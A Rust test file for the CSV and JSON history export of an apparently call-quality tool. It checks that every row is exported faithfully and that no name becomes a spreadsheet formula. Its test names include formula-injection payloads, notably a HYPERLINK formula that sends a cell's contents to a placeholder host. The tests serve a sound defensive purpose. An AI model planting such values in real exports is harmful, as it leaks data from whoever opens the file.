//! What is exported is what SQLite holds.

use std::collections::HashMap;
use std::io::{self, Write};

use rusqlite::types::Value;
use sightline_history::{CallId, HistoryError, export_csv, export_json};
use sightline_quality::{Event, EventKind};

use crate::bench::{Clock, Place, START_MS, start};

/// Tables with the column that says which session a row is of, or how that is found.
const TABLES: [(&str, &str); 7] = [
    ("session", "id"),
    ("stay", "session_id"),
    ("sample", "(SELECT session_id FROM track JOIN stay ON stay.id = stay_id WHERE track.id = track_id)"),
    ("link_sample", "(SELECT session_id FROM stay WHERE stay.id = stay_id)"),
    ("process_sample", "session_id"),
    ("event", "session_id"),
    ("break", "session_id"),
];

/// Names that try what a reader of CSV, a spreadsheet or SQL may stumble over.
const NAMES: [&str; 10] = [
    "=HYPERLINK(\"http://x/?\"&A1)",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "＝1",
    "Ada;=1",
    "'quoted' \"twice\", and\r\na line",
    " Ä ",
    "NULL",
];

/// Two calls of two sessions each, with all tables filled and every name in use.
fn filled() -> Place {
    let place = Place::new();
    for (code, from) in [("=heron", 0), ("red-fox", 100_000), ("=heron", 200_000), ("red-fox", 300_000)] {
        let recorder = place.recorder();
        let clock = Clock::new(START_MS + from);
        recorder.start_session(start(code, clock.start_ms)).unwrap();
        recorder.peer("ada", NAMES[0], clock.start_ms);
        for (number, name) in NAMES.iter().enumerate().skip(1) {
            recorder.peer(&format!("peer-{number}"), name, clock.start_ms);
        }
        for second in 0..=20 {
            recorder.snapshot(&clock.full(second));
        }
        let cause = "path, \"lost\"\n".to_owned();
        let lost = EventKind::Reconnecting { cause };
        recorder.event(&Event { unix_ms: clock.start_ms + 20_000, peer: Some("ada".to_owned()), kind: lost });
        recorder.finish("left", clock.start_ms + 21_000).unwrap();
    }
    place
}

/// A parser of RFC 4180.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut lines, mut line, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut rest = text.chars().peekable();
    while let Some(character) = rest.next() {
        match character {
            '"' if quoted && rest.peek() == Some(&'"') => cell.extend(rest.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => line.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {
                assert_eq!(rest.next(), Some('\n'));
                line.push(std::mem::take(&mut cell));
                lines.push(std::mem::take(&mut line));
            }
            other => cell.push(other),
        }
    }
    assert!(!quoted && cell.is_empty() && line.is_empty(), "the last line is complete");
    lines
}

/// Takes away the apostrophes that keep texts from being formulas.
fn unguarded(text: &str) -> String {
    let (mut out, mut begins, mut rest) = (String::new(), true, text.chars());
    while let Some(mut character) = rest.next() {
        if begins && character == '\'' {
            character = rest.next().expect("an apostrophe guards something");
        }
        out.push(character);
        begins = [',', ';', '\t', '\r', '\n'].contains(&character);
    }
    out
}

/// Rows of a call in a table, by id, each value by its column.
type Rows = HashMap<i64, HashMap<String, Value>>;

fn raw(place: &Place, table: &str, session: &str, call: CallId) -> Rows {
    let connection = place.raw();
    let sql = format!("SELECT * FROM {table} WHERE {session} IN (SELECT id FROM session WHERE call_id = {})", call.0);
    let mut statement = connection.prepare(&sql).unwrap();
    let columns: Vec<String> = statement.column_names().map(str::to_owned).collect();
    let rows = statement.query_map([], |row| {
        let values = columns.iter().enumerate().map(|(place, name)| Ok((name.clone(), row.get::<_, Value>(place)?)));
        Ok((row.get("id")?, values.collect::<rusqlite::Result<HashMap<_, _>>>()?))
    });
    rows.unwrap().map(Result::unwrap).collect()
}

fn call_of(place: &Place, code: &str) -> CallId {
    place.history().calls(10, 0).unwrap().into_iter().find(|line| line.code == code).expect("recorded").id
}

#[test]
fn every_column_of_every_row_is_in_the_csv_and_nothing_of_another_call() {
    let place = filled();
    let call = call_of(&place, "=heron");
    let mut out = Vec::new();
    export_csv(&place.history(), call, &mut out).unwrap();
    let lines = parse_csv(&String::from_utf8(out).unwrap());
    let header = &lines[0];
    assert_eq!(header[0], "record");
    assert!(lines.iter().all(|line| line.len() == header.len()));
    let column = |name: &str| header.iter().position(|column| column == name).unwrap_or_else(|| panic!("{name}"));
    for (table, session) in TABLES {
        let of_table: Vec<_> = lines.iter().filter(|line| line[0] == table).collect();
        let raw = raw(&place, table, session, call);
        assert!(!raw.is_empty());
        assert_eq!(of_table.len(), raw.len(), "{table}");
        for line in of_table {
            let row = &raw[&line[column("id")].parse::<i64>().unwrap()];
            for (name, value) in row.iter().filter(|(name, _)| *name != "lock_token") {
                let cell = &line[column(name)];
                match value {
                    Value::Null => assert_eq!(cell, "", "{table}.{name}"),
                    Value::Integer(value) => assert_eq!(cell.parse(), Ok(*value), "{table}.{name}"),
                    Value::Real(value) => assert_eq!(cell.parse(), Ok(*value), "{table}.{name}"),
                    Value::Text(value) => assert_eq!(unguarded(cell), *value, "{table}.{name}"),
                    Value::Blob(_) => panic!("no table has blobs"),
                }
            }
        }
    }
    let sample = lines.iter().find(|line| line[0] == "sample").expect("recorded");
    assert_eq!(sample[column("time_utc")], "2023-11-14T22:13:20.000Z");
    assert_eq!(unguarded(&sample[column("name")]), NAMES[0]);
    assert_eq!((&*sample[column("media")], &*sample[column("direction")]), ("audio", "inbound"));
    assert!(!header.iter().any(|name| name == "lock_token"));
}

#[test]
fn no_name_becomes_a_formula() {
    let place = filled();
    let mut out = Vec::new();
    export_csv(&place.history(), call_of(&place, "=heron"), &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    // However it is cut: at commas, as it should be, or at semicolons.
    for line in parse_csv(&text) {
        for part in line.iter().flat_map(|cell| cell.split(';')) {
            let number = part.parse::<f64>().is_ok() && part != "+1" && part != "-1";
            let formula = part.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
            assert!(number || !formula, "{part:?}");
        }
    }
    assert!(text.contains("'=heron") && text.contains("'@SUM(A1)") && text.contains("Ada;'=1"));
}

#[test]
fn the_json_holds_the_same() {
    let place = filled();
    let call = call_of(&place, "red-fox");
    let mut out = Vec::new();
    export_json(&place.history(), call, &mut out).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(json["call"][0]["code"], "red-fox");
    for (table, session) in TABLES {
        let rows = json[table].as_array().expect(table);
        let raw = raw(&place, table, session, call);
        assert_eq!(rows.len(), raw.len(), "{table}");
        for exported in rows {
            let row = &raw[&exported["id"].as_i64().unwrap()];
            for (name, value) in row.iter().filter(|(name, _)| *name != "lock_token") {
                let exported = exported.get(name).unwrap_or_else(|| panic!("{table}.{name}"));
                match value {
                    Value::Null => assert!(exported.is_null(), "{table}.{name}"),
                    Value::Integer(value) => assert_eq!(exported.as_i64(), Some(*value), "{table}.{name}"),
                    // This reader of JSON may be wrong in the last place.
                    Value::Real(value) => {
                        let error = exported.as_f64().expect("a number") - value;
                        assert!(error.abs() <= value.abs() * f64::EPSILON, "{table}.{name}: {exported} for {value}");
                    }
                    Value::Text(value) => assert_eq!(exported.as_str(), Some(&value[..]), "{table}.{name}"),
                    Value::Blob(_) => panic!("no table has blobs"),
                }
            }
        }
    }
    assert_eq!(json["stay"].as_array().unwrap().iter().map(|stay| &stay["name"]).next(), Some(&NAMES[0].into()));
}

#[test]
fn odd_numbers_are_exported_too() {
    let place = filled();
    let call = call_of(&place, "red-fox");
    let odd = "UPDATE sample SET loss_percent_mean = 9e999, loss_percent_min = -9e999, score = 1e300, bytes = ?1";
    place.raw().execute(odd, [i64::MAX]).unwrap();
    place.raw().execute("UPDATE event SET unix_ms = ?1", [i64::MIN]).unwrap();
    let (mut csv, mut json) = (Vec::new(), Vec::new());
    export_csv(&place.history(), call, &mut csv).unwrap();
    export_json(&place.history(), call, &mut json).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&json).unwrap();
    let sample = &json["sample"][0];
    assert_eq!((&sample["loss_percent_mean"], &sample["loss_percent_min"]), (&"inf".into(), &"-inf".into()));
    assert_eq!((sample["score"].as_f64(), sample["bytes"].as_i64()), (Some(1e300), Some(i64::MAX)));
    assert_eq!(json["event"][0]["time_utc"], serde_json::Value::Null);
    let csv = String::from_utf8(csv).unwrap();
    assert!(csv.contains(",inf,-inf,") && csv.contains(",1e300,"), "{csv}");
}

/// A disk that is full at once.
struct Full;

impl Write for Full {
    fn write(&mut self, _: &[u8]) -> io::Result<usize> {
        Err(io::ErrorKind::StorageFull.into())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn what_cannot_be_exported_says_why() {
    let place = filled();
    let history = place.history();
    let nowhere = export_csv(&history, CallId(99), &mut Vec::new()).unwrap_err();
    assert!(matches!(nowhere, HistoryError::NoSuchCall), "{nowhere}");
    let call = call_of(&place, "red-fox");
    for full in [export_csv(&history, call, &mut Full), export_json(&history, call, &mut Full)] {
        let full = full.unwrap_err().to_string();
        assert!(full.contains("cannot write the export") && full.contains("free some space"), "{full}");
    }
    export_csv(&history, call, &mut Vec::new()).expect("and again where there is space");
}
